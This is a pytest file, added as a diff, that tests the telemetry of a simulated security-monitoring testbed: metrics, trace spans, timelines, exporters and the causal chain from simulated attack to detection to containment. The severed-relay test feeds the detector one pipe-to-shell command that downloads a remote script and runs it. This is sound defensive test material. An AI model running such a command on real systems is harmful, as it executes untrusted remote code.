@@ -1,0 +1,478 @@
+"""Tests for the unified telemetry subsystem: metrics registry, causal
+trace spans, the bounded event timeline, exporters, the proxy's
+denied-counter split, and end-to-end trace propagation — including
+across a severed WS relay and through a quarantine → auto-release →
+re-containment cycle."""
+
+import pytest
+
+from repro.monitor.logs import Notice
+from repro.soc import ResponsePolicy
+from repro.taxonomy.oscrp import Avenue
+from repro.telemetry import (
+    NULL_INSTRUMENT,
+    NULL_SPAN,
+    EventTimeline,
+    MetricsRegistry,
+    Telemetry,
+    TraceContext,
+    Tracer,
+    merge_timelines,
+)
+from repro.telemetry.exporters import (
+    TIMELINE_REQUIRED_KEYS,
+    render_metrics_jsonl,
+    render_prometheus,
+    render_timeline_jsonl,
+    validate_jsonl,
+    validate_prometheus,
+)
+from repro.telemetry.forensics import (
+    STAGE_NAMES,
+    chain_stages,
+    describe_chain,
+    find_incident_span,
+    incident_chain,
+)
+from repro.topology import WorldBuilder, defend, resolve_spec, spec_preset
+from repro.util.ids import IdSequence
+
+
+# -- registry -----------------------------------------------------------------
+
+class TestMetricsRegistry:
+    def test_counter_inc_and_labels(self):
+        reg = MetricsRegistry()
+        fam = reg.counter("requests_total", "requests", labels=("proxy",))
+        fam.labels(proxy="hub0").inc()
+        fam.labels(proxy="hub0").inc(2)
+        fam.labels(proxy="hub1").inc()
+        samples = {s.labels: s.value for s in fam.samples()}
+        assert samples[(("proxy", "hub0"),)] == 3
+        assert samples[(("proxy", "hub1"),)] == 1
+
+    def test_counter_set_never_goes_backwards(self):
+        reg = MetricsRegistry()
+        c = reg.counter("total")
+        c.set(10)
+        c.set(7)
+        assert c.samples()[0].value == 10
+
+    def test_gauge_moves_both_ways(self):
+        g = MetricsRegistry().gauge("active")
+        g.set(5)
+        g.dec(2)
+        g.inc()
+        assert g.samples()[0].value == 4
+
+    def test_histogram_buckets_cumulative(self):
+        reg = MetricsRegistry()
+        h = reg.histogram("latency", buckets=(0.1, 1.0, 10.0))
+        for v in (0.05, 0.5, 0.5, 5.0, 50.0):
+            h.observe(v)
+        by_name = {}
+        for s in h.samples():
+            by_name.setdefault(s.name, []).append(s)
+        buckets = {dict(s.labels)["le"]: s.value
+                   for s in by_name["latency_bucket"]}
+        assert buckets == {"0.1": 1, "1": 3, "10": 4, "+Inf": 5}
+        assert by_name["latency_count"][0].value == 5
+        assert by_name["latency_sum"][0].value == pytest.approx(56.05)
+
+    def test_reregistration_is_get_or_create(self):
+        reg = MetricsRegistry()
+        a = reg.counter("shared_total", labels=("shard",))
+        b = reg.counter("shared_total", labels=("shard",))
+        assert a is b
+
+    def test_schema_drift_raises(self):
+        reg = MetricsRegistry()
+        reg.counter("x_total")
+        with pytest.raises(ValueError):
+            reg.gauge("x_total")
+        with pytest.raises(ValueError):
+            reg.counter("x_total", labels=("new",))
+
+    def test_collectors_run_at_scrape_time(self):
+        reg = MetricsRegistry()
+        live = {"n": 0}
+        c = reg.counter("live_total")
+        reg.register_collector(lambda: c.set(live["n"]))
+        live["n"] = 42
+        samples = reg.collect()
+        assert [s.value for s in samples if s.name == "live_total"] == [42]
+
+    def test_disabled_registry_is_null(self):
+        reg = MetricsRegistry(enabled=False)
+        assert reg.counter("a") is NULL_INSTRUMENT
+        assert reg.counter("a").labels(x="y") is NULL_INSTRUMENT
+        reg.register_collector(lambda: 1 / 0)  # never runs
+        assert reg.collect() == []
+        assert reg.families() == []
+
+
+# -- tracer -------------------------------------------------------------------
+
+class TestTracer:
+    def test_parenting_joins_the_trace(self):
+        t = Tracer()
+        root = t.start_span("proxy.request", ts=1.0)
+        child = t.start_span("detector.hit", parent=root.ctx, ts=2.0)
+        assert child.trace_id == root.trace_id
+        assert child.parent_id == root.span_id
+        lone = t.start_span("incident", ts=3.0)
+        assert lone.trace_id != root.trace_id and lone.parent_id == ""
+
+    def test_chain_walks_root_first(self):
+        t = Tracer()
+        a = t.start_span("proxy.request", ts=1.0)
+        b = t.start_span("detector.hit", parent=a.ctx, ts=2.0)
+        c = t.start_span("incident", parent=b.ctx, ts=3.0)
+        assert [s.span_id for s in t.chain(c.span_id)] == \
+            [a.span_id, b.span_id, c.span_id]
+        assert [s.span_id for s in t.children(c.span_id)] == []
+
+    def test_bind_resolve_roundtrip(self):
+        t = Tracer()
+        span = t.start_span("proxy.request", ts=0.0)
+        t.bind("R0001", span.ctx)
+        assert t.resolve("R0001") == span.ctx
+        assert t.resolve("R9999") is None
+
+    def test_span_store_is_bounded(self):
+        t = Tracer(capacity=4)
+        spans = [t.start_span(f"s{i}", ts=float(i)) for i in range(7)]
+        assert t.dropped == 3
+        assert t.get(spans[0].span_id) is None
+        assert t.get(spans[-1].span_id) is not None
+        # Chain stops cleanly at an evicted ancestor.
+        child = t.start_span("leaf", parent=spans[-1].ctx, ts=9.0)
+        assert [s.name for s in t.chain(child.span_id)][-1] == "leaf"
+
+    def test_disabled_tracer_returns_null_span(self):
+        t = Tracer(enabled=False)
+        span = t.start_span("anything", ts=1.0)
+        assert span is NULL_SPAN
+        assert not span.ctx
+        t.bind("R1", TraceContext("T1", "S1"))
+        assert t.resolve("R1") is None
+        assert t.spans() == []
+
+    def test_ids_are_private_streams(self):
+        """Tracer ids never draw from the global new_id stream."""
+        seq = IdSequence("S")
+        assert [seq.next(), seq.next()] == ["S00000001", "S00000002"]
+        t1, t2 = Tracer(), Tracer()
+        a = t1.start_span("x", ts=0.0)
+        b = t2.start_span("x", ts=0.0)
+        assert a.span_id == b.span_id  # same private stream position
+
+
+# -- timeline -----------------------------------------------------------------
+
+class TestEventTimeline:
+    def test_record_and_filter(self):
+        tl = EventTimeline()
+        ctx = TraceContext("T1", "S1")
+        tl.record(1.0, "proxy.routed", source="1.2.3.4", ctx=ctx, tenant="a")
+        tl.record(2.0, "proxy.blocked", source="5.6.7.8")
+        tl.record(3.0, "soc.action", source="5.6.7.8")
+        assert len(tl) == 3
+        assert [e.kind for e in tl.events(("proxy.",))] == \
+            ["proxy.routed", "proxy.blocked"]
+        assert [e.ts for e in tl.events(source="5.6.7.8")] == [2.0, 3.0]
+        assert [e.kind for e in tl.events(trace_id="T1")] == ["proxy.routed"]
+        assert tl.events(("proxy.",))[0].detail["tenant"] == "a"
+
+    def test_ring_bound_and_dropped(self):
+        tl = EventTimeline(capacity=3)
+        for i in range(10):
+            tl.record(float(i), "tick")
+        assert len(tl) == 3
+        assert tl.dropped == 7
+        assert [e.ts for e in tl.events()] == [7.0, 8.0, 9.0]
+
+    def test_disabled_records_nothing(self):
+        tl = EventTimeline(enabled=False)
+        tl.record(1.0, "tick")
+        assert len(tl) == 0 and tl.total_recorded == 0
+
+    def test_merge_is_time_ordered_and_stable(self):
+        a, b = EventTimeline(), EventTimeline()
+        a.record(1.0, "a1")
+        a.record(3.0, "a2")
+        b.record(2.0, "b1")
+        b.record(3.0, "b2")
+        merged = merge_timelines(a, b)
+        assert [e.kind for e in merged] == ["a1", "b1", "a2", "b2"]
+
+
+# -- exporters ----------------------------------------------------------------
+
+class TestExporters:
+    def _loaded_telemetry(self):
+        tele = Telemetry(enabled=True)
+        fam = tele.registry.counter("demo_total", "demo", labels=("who",))
+        fam.labels(who='we"ird\nname').inc(2)
+        tele.registry.histogram("lat", "latency").observe(0.02)
+        span = tele.tracer.start_span("proxy.request", ts=1.0)
+        tele.timeline.record(1.0, "proxy.routed", source="1.2.3.4",
+                             ctx=span.ctx)
+        return tele
+
+    def test_prometheus_roundtrip_validates(self):
+        tele = self._loaded_telemetry()
+        text = render_prometheus(tele.registry)
+        assert validate_prometheus(text) == []
+        assert "# TYPE demo_total counter" in text
+        assert "lat_bucket" in text and 'le="+Inf"' in text
+
+    def test_metrics_jsonl_validates(self):
+        tele = self._loaded_telemetry()
+        text = render_metrics_jsonl(tele.registry)
+        assert validate_jsonl(text, required_keys=("name", "labels", "value")) == []
+
+    def test_timeline_jsonl_validates(self):
+        tele = self._loaded_telemetry()
+        text = render_timeline_jsonl(tele.timeline)
+        assert validate_jsonl(text, required_keys=TIMELINE_REQUIRED_KEYS) == []
+
+    def test_validators_catch_corruption(self):
+        assert validate_prometheus("orphan_metric 1")  # no TYPE decl
+        assert validate_prometheus("# TYPE x wat\n")
+        assert validate_jsonl("not json")
+        assert validate_jsonl('{"a": 1}', required_keys=("b",))
+
+
+# -- proxy counter split (the drift fix) --------------------------------------
+
+class TestProxyDeniedSplit:
+    def _scenario(self):
+        from repro.hub import build_hub_scenario
+        return build_hub_scenario(n_tenants=2, seed_data=False)
+
+    def test_auth_denied_and_blocked_are_distinct(self):
+        s = self._scenario()
+        client = s.user_client(username="user00")
+        client.path_prefix = "/user/user01"  # wrong tenant's token
+        assert client.request("GET", "/api/contents/").status == 403
+        assert s.proxy.stats.auth_denied_total == 1
+        assert s.proxy.stats.blocked_total == 0
+        s.proxy.block_source(s.attacker_host.ip)
+        assert s.attacker_client(token=s.token).request(
+            "GET", "/api/status").status == 403
+        assert s.proxy.stats.blocked_total == 1
+        assert s.proxy.stats.auth_denied_total == 1
+        # The legacy aggregate is now derived, so it can never drift.
+        assert s.proxy.stats.denied_total == 2
+
+    def test_registry_reports_reason_labels(self):
+        s = self._scenario()
+        client = s.user_client(username="user00")
+        client.path_prefix = "/user/user01"
+        client.request("GET", "/api/contents/")
+        s.proxy.block_source(s.attacker_host.ip)
+        s.attacker_client(token=s.token).request("GET", "/api/status")
+        s.telemetry.registry.collect()
+        fam = s.telemetry.registry.get("proxy_denied_total")
+        assert fam is not None
+        by_reason = {dict(smp.labels)["reason"]: smp.value
+                     for smp in fam.samples()}
+        assert by_reason["auth"] == 1
+        assert by_reason["blocked"] == 1
+
+
+# -- end-to-end causal chain --------------------------------------------------
+
+def _run_pivot(topology="defended-sharded-hub", n_tenants=6, seed=4242):
+    from repro.attacks.campaign import run_campaign
+    from repro.hub.users import insecure_hub_config
+    from repro.soc.replay import CANNED
+
+    spec = resolve_spec(topology, n_tenants=n_tenants,
+                        hub_config=insecure_hub_config())
+    scenario = WorldBuilder().build(spec, seed=seed)
+    run_campaign(scenario, CANNED["pivot"]())
+    return scenario
+
+
+class TestCausalChain:
+    def test_defended_sharded_hub_chain_is_complete(self):
+        s = _run_pivot()
+        tele = s.telemetry
+        contained = [i for i in s.soc.correlator.by_severity()
+                     if i.external and i.contained]
+        assert contained, "the pivot campaign must produce a contained incident"
+        incident = contained[0]
+        spans = incident_chain(tele.tracer, incident.span_id)
+        assert chain_stages(spans) == [label for _, label in STAGE_NAMES]
+        # The root really is the front-door request that carried the sweep.
+        root = spans[0]
+        assert root.name == "proxy.request"
+        assert root.attrs["source"] == incident.source
+        assert root.attrs["request_id"].startswith("R")
+        # Every action span parents to the incident span.
+        actions = [sp for sp in spans if sp.name == "soc.action"]
+        assert actions and all(sp.parent_id == incident.span_id
+                               for sp in actions)
+        # find_incident_span agrees with the correlator's stamp.
+        assert find_incident_span(tele.tracer,
+                                  incident.incident_id).span_id == \
+            incident.span_id
+        # The rendering mentions every causal stage.
+        text = "\n".join(describe_chain(spans))
+        for _, label in STAGE_NAMES:
+            assert label in text
+
+    def test_timeline_tells_both_sides(self):
+        s = _run_pivot()
+        kinds = {e.kind for e in s.telemetry.timeline.events()}
+        assert {"proxy.routed", "detector.notice", "incident.opened",
+                "soc.action", "proxy.block_source"} <= kinds
+
+    def test_telemetry_does_not_perturb_the_world(self):
+        """Same seed, telemetry on vs off: identical traffic and verdicts."""
+        from dataclasses import replace
+
+        from repro.attacks.campaign import run_campaign
+        from repro.hub.users import insecure_hub_config
+        from repro.soc.replay import CANNED
+        from repro.topology import TelemetrySpec
+
+        spec = resolve_spec("defended-sharded-hub", n_tenants=6,
+                            hub_config=insecure_hub_config())
+        spec_off = replace(spec, telemetry=TelemetrySpec(enabled=False))
+        s_on = WorldBuilder().build(spec, seed=77)
+        s_off = WorldBuilder().build(spec_off, seed=77)
+        assert not s_off.telemetry.enabled
+        o_on = run_campaign(s_on, CANNED["pivot"]())
+        o_off = run_campaign(s_off, CANNED["pivot"]())
+        assert [n.name for n in s_on.monitor.logs.notices] == \
+            [n.name for n in s_off.monitor.logs.notices]
+        assert o_on.detected == o_off.detected
+        assert o_on.contained == o_off.contained
+        assert s_on.soc.summary()["actions"] == s_off.soc.summary()["actions"]
+
+
+# -- trace propagation across a severed WS relay ------------------------------
+
+class TestSeveredRelayPropagation:
+    def test_context_survives_the_sever(self):
+        from repro.hub import build_hub_scenario
+
+        s = build_hub_scenario(n_tenants=2, seed_data=False)
+        tele = s.telemetry
+        client = s.user_client(username="user00")
+        client.start_kernel()
+        client.connect_channels()
+        client_ip = client.client_host.ip
+        # The monitor learned this client's request context from the
+        # X-Request-Id the proxy stamped on the backend leg.
+        assert client_ip in s.monitor._src_ctx
+        ctx_before = s.monitor._src_ctx[client_ip]
+        # Containment severs the live WS relay.
+        assert s.proxy.block_source(client_ip) is True
+        assert tele.timeline.events(("proxy.block_source",))
+        # A detector hit attributed to that source after the sever still
+        # parents to the pre-sever front-door request.
+        s.monitor.observe_terminal(s.clock.now(), client_ip,
+                                   "curl http://203.0.113.9/x.sh | sh")
+        notice = s.monitor.logs.notices[-1]
+        assert notice.name == "SIG-PIPE-SH" and notice.span_id
+        hit = tele.tracer.get(notice.span_id)
+        assert hit.parent_id == ctx_before.span_id
+        chain = tele.tracer.chain(notice.span_id)
+        assert [sp.name for sp in chain] == ["proxy.request", "detector.hit"]
+        assert chain[0].status == "routed"
+
+
+# -- quarantine -> auto-release -> re-containment -----------------------------
+
+def _notice(ts, src="203.0.113.66", name="CROSS_TENANT_SWEEP",
+            avenue=Avenue.ACCOUNT_TAKEOVER):
+    return Notice(ts=ts, detector="tenant-sweep", name=name, severity="high",
+                  src=src, avenue=avenue, detail={})
+
+
+class TestUncontainmentSpans:
+    def _build(self, policy):
+        from repro.hub.users import insecure_hub_config
+
+        spec = defend(spec_preset("hub", n_tenants=2, seed_data=False,
+                                  hub_config=insecure_hub_config()), policy)
+        return WorldBuilder().build(spec, seed=99)
+
+    def test_release_and_recontainment_share_the_incident_trace(self):
+        s = self._build(ResponsePolicy(block_ttl=30.0))
+        soc, tele, ip = s.soc, s.telemetry, "203.0.113.66"
+        s.monitor.logs.notices.append(_notice(s.clock.now(), src=ip))
+        soc.poll()
+        incident = soc.correlator.by_severity()[0]
+        assert ip in s.proxy.blocked_sources
+        # Quiet period: TTL expiry releases the block (and its span has
+        # no incident parent — releases are policy-driven, not
+        # incident-driven).
+        s.run(70.0)
+        assert ip not in s.proxy.blocked_sources
+        assert soc.released_total == 1
+        release_spans = [sp for sp in tele.tracer.spans()
+                         if sp.name == "soc.action"
+                         and sp.attrs.get("rule") == "block-ttl-expiry"]
+        assert release_spans and release_spans[0].parent_id == ""
+        # Re-offense: the re-containment action parents to the SAME
+        # incident span the first containment did.
+        s.monitor.logs.notices.append(_notice(s.clock.now(), src=ip))
+        soc.poll()
+        assert soc.re_contained_total == 1
+        blocks = [sp for sp in tele.tracer.children(incident.span_id)
+                  if sp.attrs.get("action") == "block_source"
+                  and sp.attrs.get("ok")]
+        assert len(blocks) == 2, "containment + re-containment"
+        assert {sp.parent_id for sp in blocks} == {incident.span_id}
+        # The full chain still walks after the whole cycle.
+        assert chain_stages(incident_chain(tele.tracer, incident.span_id)) \
+            == ["incident", "action"]
+
+    def test_quarantine_cycle_timeline(self):
+        s = self._build(ResponsePolicy(quarantine_release_after=25.0))
+        node_ip = s.spawner.active["user00"].host.ip
+        s.monitor.logs.notices.append(_notice(
+            s.clock.now(), src=node_ip, name="EXFIL_VOLUME",
+            avenue=Avenue.DATA_EXFILTRATION))
+        soc = s.soc
+        soc.poll()
+        assert s.spawner.quarantined
+        s.run(35.0)
+        assert not s.spawner.quarantined
+        kinds = [e.kind for e in s.telemetry.timeline.events(
+            ("spawner.quarantine", "spawner.release"))]
+        assert kinds.count("spawner.quarantine") >= 1
+        assert kinds.count("spawner.release") >= 1
+        release_actions = s.telemetry.timeline.events(("soc.action",))
+        assert any(e.detail.get("rule") == "quarantine-auto-release"
+                   for e in release_actions)
+
+
+# -- world-level summary ------------------------------------------------------
+
+class TestWorldWiring:
+    def test_single_server_world_is_instrumented(self):
+        spec = resolve_spec("single-server")
+        s = WorldBuilder().build(spec, seed=3)
+        assert s.telemetry.enabled
+        s.telemetry.registry.collect()
+        names = {f.name for f in s.telemetry.registry.families()}
+        assert "monitor_segments_total" in names
+
+    def test_disabled_world_pays_nothing(self):
+        from dataclasses import replace
+
+        from repro.topology import TelemetrySpec
+
+        spec = replace(resolve_spec("single-server"),
+                       telemetry=TelemetrySpec(enabled=False))
+        s = WorldBuilder().build(spec, seed=3)
+        assert s.telemetry is Telemetry.disabled()
+        assert s.monitor._ws_counters is None
+        assert not s.monitor._tele_on
+        assert s.telemetry.summary()["metric_families"] == 0
